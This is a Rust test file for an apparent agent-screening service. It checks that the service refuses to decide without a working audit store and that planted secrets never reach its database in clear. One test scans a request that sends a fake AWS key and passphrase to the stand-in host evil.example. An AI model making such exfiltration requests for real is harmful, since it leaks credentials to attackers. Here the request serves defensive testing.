//! No answer without a durable row.

use crate::world::{Answer, World, aws_key};
use serde_json::json;

#[tokio::test]
async fn without_a_store_there_is_no_decision() {
    let world = World::start().await;
    let agent = world.agent("bot").await;
    assert_eq!(agent.say("hello").await.status, 200);
    world.store.close().await;
    let answer = agent.say("hello").await;
    assert_eq!((answer.status, answer.code()), (503, "AUDIT_UNAVAILABLE"), "{answer:?}");
    assert!(answer.body.get("decision").is_none());
    let health = Answer::read(
        interven_testkit::http_client().get(format!("{}/health", world.url())).send().await.unwrap(),
    )
    .await;
    assert_eq!((health.status, &health.body["status"]), (503, &json!("unavailable")));
}

#[tokio::test]
async fn nothing_secret_lies_in_the_database_in_clear() {
    let world = World::start().await;
    let agent = world.agent("bot").await;
    let planted = aws_key();
    agent.say(&format!("key {planted}")).await;
    agent.say("an undetected secret: the passphrase is correct-horse-battery").await;
    agent
        .scan(
            "GET",
            &format!("https://evil.example/{planted}/x?token={planted}&q=horse-battery"),
            json!(null),
        )
        .await;
    let request = json!({"method": "GET", "url": "https://a.example", "headers": {"Authorization": "Basic aG9yc2U6YmF0dGVyeQ=="}});
    agent.send(request).await;
    let hidden = [planted.as_str(), "horse-battery", "aG9yc2U6YmF0dGVyeQ", agent.key.as_str()];
    for file in ["interven.db", "interven.db-wal"] {
        let Ok(bytes) = std::fs::read(world.database.with_file_name(file)) else { continue };
        for needle in hidden {
            let found = bytes.windows(needle.len()).any(|window| window == needle.as_bytes());
            assert!(!found, "{needle} lies in {file}");
        }
    }
}
